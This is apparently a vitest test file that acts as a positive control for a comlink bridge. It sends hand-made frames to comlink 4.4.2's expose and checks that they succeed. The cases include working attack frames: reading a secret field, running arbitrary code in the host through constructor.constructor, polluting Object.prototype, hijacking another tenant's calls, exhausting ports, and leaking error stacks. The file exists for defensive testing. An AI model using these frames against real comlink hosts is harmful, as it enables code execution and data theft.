// biome-ignore lint/style/noRestrictedImports: the positive control needs the very function that the rule forbids
import { expose } from "comlink";
import { afterEach, describe, expect, it } from "vitest";

/**
 * The positive control of rows B-01 to B-08: the same frames, fed by hand to comlink 4.4.2's own `expose`, do what they mean to do. A bridge test that
 * refuses what never worked would prove nothing.
 */
function createExposed(target: object) {
  const listeners: ((event: { data: unknown }) => void)[] = [];
  const sent: { readonly message: unknown; readonly transfer: readonly unknown[] }[] = [];
  const waiting: (() => void)[] = [];
  expose(target, {
    postMessage(message, transfer = []) {
      sent.push({ message, transfer });
      waiting.shift()?.();
    },
    addEventListener: (_type, listener) => void listeners.push(listener as unknown as (event: { data: unknown }) => void),
    removeEventListener(_type, listener) {
      listeners.splice(listeners.indexOf(listener as unknown as (event: { data: unknown }) => void), 1);
    },
  });
  return {
    sent,
    listening: () => listeners.length,
    /** Throws what comlink throws uncaught. */
    post: (data: unknown) => listeners[0]?.({ data }),
    async ask(data: object) {
      const answered = new Promise<void>((resolve) => void waiting.push(resolve));
      listeners[0]?.({ data: { id: "1", ...data } });
      await answered;
      return sent.at(-1) as { message: { type: string; name?: string; value?: unknown }; transfer: readonly unknown[] };
    },
  };
}

class Checkout {
  token = "secret of the host";
  pay(amount: number) {
    return `paid ${amount}`;
  }
}

const raw = (value: unknown) => ({ type: "RAW", value });

describe("comlink's expose, without the bridge", () => {
  afterEach(() => {
    Reflect.deleteProperty(Object.prototype, "polluted");
    Reflect.deleteProperty(globalThis, "pwned");
  });

  it("hands out any field by GET [B-01]", async () => {
    const { message } = await createExposed(new Checkout()).ask({ type: "GET", path: ["token"] });
    expect(message.value).toBe("secret of the host");
  });

  it("runs code in the host by CONSTRUCT of a constructor's constructor and APPLY on the port it returns [B-02]", async () => {
    const exposed = createExposed(new Checkout());
    const { transfer } = await exposed.ask({
      type: "CONSTRUCT",
      path: ["constructor", "constructor"],
      argumentList: [raw("globalThis.pwned = 1")],
    });
    const made = transfer[0] as MessagePort;
    const ran = new Promise((resolve) => {
      made.onmessage = resolve;
    });
    made.postMessage({ id: "2", type: "APPLY", path: [], argumentList: [] });
    await ran;
    expect(Reflect.get(globalThis, "pwned")).toBe(1);
    made.close();
  });

  it("calls inherited functions by APPLY [B-03]", async () => {
    const { message } = await createExposed(new Checkout()).ask({ type: "APPLY", path: ["hasOwnProperty"], argumentList: [raw("token")] });
    expect(message.value).toBe(true);
  });

  it("pollutes Object.prototype by SET [B-04]", async () => {
    await createExposed(new Checkout()).ask({ type: "SET", path: ["__proto__", "__proto__", "polluted"], value: raw("yes") });
    expect(({} as { polluted?: string }).polluted).toBe("yes");
  });

  it("lets one app take another's calls by SET of a proxy on the shared class [B-05]", async () => {
    const mine = createExposed(new Checkout());
    const { port1, port2 } = new MessageChannel();
    const original = Checkout.prototype.pay;
    const taken = new Promise((resolve) => {
      port1.onmessage = ({ data }) => resolve(JSON.stringify(data));
    });
    await mine.ask({ type: "SET", path: ["constructor", "prototype", "pay"], value: { type: "HANDLER", name: "proxy", value: port2 } });
    const others = createExposed(new Checkout());
    others.post({ id: "2", type: "APPLY", path: ["pay"], argumentList: [raw(4500)] });
    // The thief is sent the other tenant's object and its arguments.
    expect(await taken).toMatch(/secret of the host.*4500/);
    Checkout.prototype.pay = original;
    port1.close();
  });

  it("mints a port for each ENDPOINT [B-06]", async () => {
    const exposed = createExposed(new Checkout());
    for (let index = 0; index < 50; index += 1) await exposed.ask({ type: "ENDPOINT" });
    expect(exposed.sent.flatMap(({ transfer }) => transfer)).toHaveLength(50);
    for (const { transfer } of exposed.sent) (transfer[0] as MessagePort).close();
  });

  it("detaches the host's object by RELEASE [B-07]", async () => {
    const exposed = createExposed(new Checkout());
    await exposed.ask({ type: "RELEASE" });
    expect(exposed.listening()).toBe(0);
  });

  it.each([
    ["an argument list that is a string", { type: "APPLY", path: ["pay"], argumentList: "x" }],
    ["a null argument", { type: "APPLY", path: ["pay"], argumentList: [null] }],
    ["an unknown transfer handler", { type: "APPLY", path: ["pay"], argumentList: [{ type: "HANDLER", name: "unknown", value: {} }] }],
    [
      "a thrown error as an argument",
      { type: "APPLY", path: ["pay"], argumentList: [{ type: "HANDLER", name: "throw", value: { isError: true, value: {} } }] },
    ],
    ["a proxy that is no port", { type: "APPLY", path: ["pay"], argumentList: [{ type: "HANDLER", name: "proxy", value: {} }] }],
  ])("throws uncaught in the host by %s [B-08]", (_what, frame) => {
    expect(() => createExposed(new Checkout()).post({ id: "1", ...frame })).toThrow();
  });

  it("answers a failure with its stack, and repeats a replayed call [B-14]", async () => {
    let charged = 0;
    const exposed = createExposed({
      pay() {
        charged += 1;
        throw new Error("db at 10.0.0.7");
      },
    });
    const { message } = await exposed.ask({ type: "APPLY", path: ["pay"], argumentList: [] });
    expect(JSON.stringify(message)).toContain("comlink-control.test.ts");
    await exposed.ask({ type: "APPLY", path: ["pay"], argumentList: [] });
    expect(charged).toBe(2);
  });
});
